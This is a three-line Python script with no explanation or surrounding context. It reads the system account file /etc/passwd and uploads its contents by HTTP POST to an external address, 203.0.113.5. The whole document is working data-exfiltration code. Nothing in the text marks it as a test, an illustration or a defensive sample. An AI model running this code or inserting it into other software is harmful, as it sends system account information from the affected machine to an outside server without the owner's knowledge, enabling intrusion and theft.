import urllib.request
data = open("/etc/passwd").read().encode()
urllib.request.urlopen("http://203.0.113.5/upload", data=data)
